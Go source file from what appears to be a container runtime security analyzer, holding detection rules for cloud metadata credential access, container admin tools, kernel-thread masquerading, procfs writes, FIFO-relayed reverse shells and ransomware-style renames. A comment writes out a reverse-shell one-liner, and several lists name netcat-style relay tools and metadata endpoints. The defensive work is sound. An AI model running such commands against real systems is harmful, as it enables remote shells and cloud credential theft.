// Behaviours added by the held-out audit (design 028): cloud credentials
// from the instance metadata service, container administration tools,
// process masquerading, a reverse shell relayed through a FIFO, and files
// renamed away in bulk (encrypted in place). Pure rules here; the state
// they need (a tree's FIFOs) lives on the container.

package analyzer

import (
	"fmt"
	"net/netip"
	"path"
	"strings"

	"google.golang.org/protobuf/proto"

	"github.com/containsec/contain/schemas/containv1"
)

// metadataAddrs are the cloud instance metadata services that hand out
// the instance's (or task's) credentials: AWS, GCP, Azure, OpenStack,
// DigitalOcean, Oracle (169.254.169.254), AWS over IPv6, AWS ECS task
// credentials (169.254.170.2), Alibaba Cloud (100.100.100.200).
var metadataAddrs = map[netip.Addr]string{
	netip.MustParseAddr("169.254.169.254"): "cloud instance metadata service",
	netip.MustParseAddr("fd00:ec2::254"):   "AWS instance metadata service (IPv6)",
	netip.MustParseAddr("169.254.170.2"):   "AWS ECS task metadata and credentials",
	netip.MustParseAddr("100.100.100.200"): "Alibaba Cloud metadata service",
}

// metadataNeedles name a metadata service in a command line.
var metadataNeedles = []string{
	"169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "metadata.google.internal",
	"/latest/meta-data", "/computemetadata/", "/metadata/identity/oauth2", "/latest/api/token",
}

// containerAdmins drive the orchestrator or a container runtime: run in a
// container, they deploy, exec into or list other containers (the
// credentials a service account or a mounted socket gives).
var containerAdmins = map[string]bool{
	"kubectl": true, "kubeadm": true, "oc": true, "helm": true, "crictl": true, "ctr": true, "nerdctl": true,
	"docker": true, "podman": true, "runc": true, "crun": true, "buildah": true, "etcdctl": true, "k3s": true,
	"kubelet": true, "containerd": true, "dockerd": true,
}

// relayTools carry a shell's stdio over the network when a FIFO joins the
// pipeline (`mkfifo f; sh -i < f | nc host port > f`).
var relayTools = map[string]bool{
	"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "openssl": true,
}

// kernelThreads are names only kernel threads have; a container process
// never does unless it masquerades as one (comm is 15 bytes at most).
var kernelThreads = []string{
	"kworker", "kthreadd", "ksoftirqd", "kswapd", "migration/", "rcu_", "watchdog/", "jbd2/", "kdevtmpfs",
	"khugepaged", "kcompactd", "kauditd", "kblockd", "irq/", "cpuhp/", "kintegrityd", "ksmd", "oom_reaper",
	"kthrotld", "writeback", "netns", "kstrp", "xfsaild", "scsi_eh_", "ecryptfs-kthr", "kmpath", "kpsmoused",
}

// kernelThreadName reports whether name is a kernel thread's, or shaped
// like ps shows one ("[name]").
func kernelThreadName(name string) bool {
	if len(name) < 3 {
		return false
	}
	if name[0] == '[' && name[len(name)-1] == ']' {
		return true
	}
	if name[0] != 'k' && name[0] != 'm' && name[0] != 'r' && name[0] != 'w' && name[0] != 'j' && name[0] != 'i' &&
		name[0] != 'c' && name[0] != 'o' && name[0] != 'n' && name[0] != 'x' && name[0] != 's' && name[0] != 'e' {
		return false
	}
	for _, k := range kernelThreads {
		if strings.HasPrefix(name, k) {
			return true
		}
	}
	return false
}

// classifyExecAttack names the audit's exec behaviours: container
// administration tools, a command line naming a metadata service, an
// argv[0] masquerading as a kernel thread. cls and needles are the
// base name's classes and the command line's needle groups (classifyExec).
func classifyExecAttack(x *containv1.Exec, fn, base string, cls baseClass, needles uint8) []hit {
	var out []hit
	if cls&baseContainerAdmin != 0 {
		out = append(out, hit{code: CodeContainerAdmin, subject: fn, key: fn,
			msg: fmt.Sprintf("container administration tool %q ran (argv %q)", base, x.Argv)})
	}
	if needles&needleMetadata != 0 {
		out = append(out, hit{code: CodeCloudMetadata, subject: fn, key: fn,
			msg: fmt.Sprintf("%q asks a cloud metadata service (argv %q)", base, x.Argv)})
	}
	if a0 := firstArg(x.Argv); (kernelThreadName(a0) || kernelThreadName(path.Base(a0))) && !kernelThreadName(base) {
		out = append(out, hit{code: CodeMasquerade, subject: fn, key: fn,
			msg: fmt.Sprintf("%q runs as %q, a kernel thread's name", fn, x.Argv[0])})
	}
	return out
}

func firstArg(argv []string) string {
	if len(argv) == 0 {
		return ""
	}
	return argv[0]
}

// metadataHit names a connection to a metadata service.
func metadataHit(n *containv1.Network) []hit {
	a, ok := peerAddr(n.RemoteAddr)
	if !ok {
		return nil
	}
	what, ok := metadataAddrs[a]
	if !ok {
		return nil
	}
	peer := netip.AddrPortFrom(a, uint16(n.RemotePort)).String()
	return []hit{{code: CodeCloudMetadata, subject: a.String(), key: a.String(),
		msg: fmt.Sprintf("connection to %s, the %s (instance or task credentials)", peer, what)}}
}

// procWrite names writes through a process's procfs entries: of its comm
// (/proc/<pid>/comm, /proc/<pid>/task/<tid>/comm: how a shell renames
// itself), of its exe (/proc/<pid>/exe: overwriting the runtime's binary
// from inside, CVE-2019-5736), and of a file below its root
// (/proc/<pid>/root/etc/cron.d/x: named as the file itself).
func procWrite(f *containv1.File, t string) []hit {
	if f.Op == containv1.File_OP_OPEN_READ || !strings.HasPrefix(t, "/proc/") {
		return nil
	}
	rest := strings.TrimPrefix(t, "/proc/")
	pid, rest, _ := strings.Cut(rest, "/")
	if pid != "self" && pid != "thread-self" && strings.Trim(pid, "0123456789") != "" {
		return nil
	}
	if strings.HasPrefix(rest, "task/") {
		if _, r, ok := strings.Cut(strings.TrimPrefix(rest, "task/"), "/"); ok {
			rest = r
		}
	}
	op := opNames[f.Op]
	switch {
	case rest == "comm":
		return []hit{{code: CodeMasquerade, subject: t, key: "comm",
			msg: fmt.Sprintf("%s of %s: the process renames itself", op, t)}}
	case rest == "exe":
		return []hit{{code: CodeCgroupEscape, subject: t, key: "exe",
			msg: fmt.Sprintf("%s of %s: a process's binary written through procfs (the runtime's, CVE-2019-5736)", op, t)}}
	case strings.HasPrefix(rest, "root/"):
		inner := proto.Clone(f).(*containv1.File)
		if in := "/" + strings.TrimPrefix(rest, "root/"); f.NewPath != "" && t == f.NewPath {
			inner.NewPath = in
		} else {
			inner.Path = in
		}
		return classifyFile(inner)
	}
	return nil
}

// masqueradeComm names a process whose comm is a kernel thread's (renamed
// by prctl(PR_SET_NAME) or through /proc/self/comm).
func masqueradeComm(p *containv1.Process) []hit {
	if p == nil || !kernelThreadName(p.Comm) {
		return nil
	}
	return []hit{{code: CodeMasquerade, subject: p.Comm, key: "comm:" + p.Comm,
		msg: fmt.Sprintf("process %d is named %q, a kernel thread's name", p.Tgid, p.Comm)}}
}

// fifoWindowNs is how long after a process tree made a FIFO a network
// relay it runs is taken for a reverse shell's.
const fifoWindowNs = int64(10e9)

const sIFIFO = 0o010000

// noteFifo remembers the FIFOs a process tree makes (mkfifo, mknod p).
func noteFifo(c *container, f *containv1.File, now int64) {
	if f.Op != containv1.File_OP_MKNOD || f.Mode&sIFMT != sIFIFO || f.Result < 0 {
		return
	}
	roomIn(&c.fifos, maxTrees)
	c.fifos[treeOf(f.Proc)] = now
}

// fifoRelayHit names a network relay (nc, socat, telnet, openssl) run by
// a process tree that made a FIFO just before: the shell reading the FIFO
// and the relay writing it carry the shell over the connection, though
// neither has a socket on its stdio.
func fifoRelayHit(c *container, x *containv1.Exec, base string, now int64) []hit {
	if base == "busybox" && len(x.Argv) > 1 {
		base = path.Base(x.Argv[1])
	}
	if baseClasses[base]&baseRelayTool == 0 {
		return nil
	}
	at, ok := c.fifos[treeOf(x.Proc)]
	if !ok || now-at > fifoWindowNs || now < at {
		return nil
	}
	return []hit{{code: CodeReverseShell, subject: base, key: "fifo " + base,
		msg: fmt.Sprintf("%q runs right after its process tree made a FIFO: a shell relayed through a named pipe (reverse shell)", base)}}
}

// renamesAway reports whether f renames a file to its own name plus a new
// extension (report.doc -> report.doc.locked), as ransomware marks what it
// encrypted. Rotation (app.log -> app.log.1), backups and editors' or
// atomic writers' names (.bak, .old, .tmp, .swp...) are not.
func renamesAway(f *containv1.File) bool {
	if f.Op != containv1.File_OP_RENAME || f.Result < 0 || len(f.NewPath) <= len(f.Path)+1 ||
		!strings.HasPrefix(f.NewPath, f.Path) || f.NewPath[len(f.Path)] != '.' {
		return false
	}
	if _, rotated := rotationStem(f.NewPath); rotated {
		return false
	}
	switch strings.ToLower(f.NewPath[len(f.Path)+1:]) {
	case "bak", "old", "orig", "tmp", "temp", "swp", "save", "backup", "prev", "new", "part", "dpkg-old",
		"dpkg-dist", "rpmsave", "rpmorig", "disabled", "lock":
		return false
	}
	return true
}

// isLoader reports whether base is the dynamic loader (glibc's or musl's).
func isLoader(base string) bool {
	return strings.HasPrefix(base, "ld-linux") && strings.Contains(base, ".so") || strings.HasPrefix(base, "ld-musl-") ||
		base == "ld.so" || strings.HasPrefix(base, "ld64.so")
}

// loaderTarget is the program an exec of the dynamic loader runs
// (`/lib64/ld-linux-x86-64.so.2 /tmp/x`): the loader maps a file that
// need not be executable, and the exec's own filename is image content.
// "" when the loader only lists or verifies (ldd) or names no program.
func loaderTarget(x *containv1.Exec, base string) string {
	if !isLoader(base) || len(x.Argv) < 2 || argvHas(x.Argv[1:], "--list", "--verify", "--help", "--version") {
		return ""
	}
	skip := false
	for _, a := range x.Argv[1:] {
		switch {
		case skip:
			skip = false
		case a == "--library-path" || a == "--preload" || a == "--audit" || a == "--argv0" || a == "--inhibit-rpath" ||
			a == "--glibc-hwcaps-prepend" || a == "--glibc-hwcaps-mask":
			skip = true
		case strings.HasPrefix(a, "-"):
		default:
			return a
		}
	}
	return ""
}

// loaderHits names a program run through the dynamic loader from a
// writable or tmpfs path, or written in the container: the exec the
// kernel saw is the loader's, the drift is its argument's.
func loaderHits(c *container, x *containv1.Exec, base string) []hit {
	t := loaderTarget(x, base)
	if t == "" {
		return nil
	}
	var out []hit
	if isTmpPath(t) {
		out = append(out, hit{code: CodeExecTmp, subject: t, key: path.Dir(t),
			msg: fmt.Sprintf("%q runs from a writable or tmpfs location through the dynamic loader %q", t, base)})
	}
	if c.written[t] || isFilelessPath(t) {
		out = append(out, hit{code: CodeExecDrift, subject: t, key: t,
			msg: fmt.Sprintf("%q was written in the container, then run through the dynamic loader %q (drift from the image)", t, base)})
	}
	return out
}
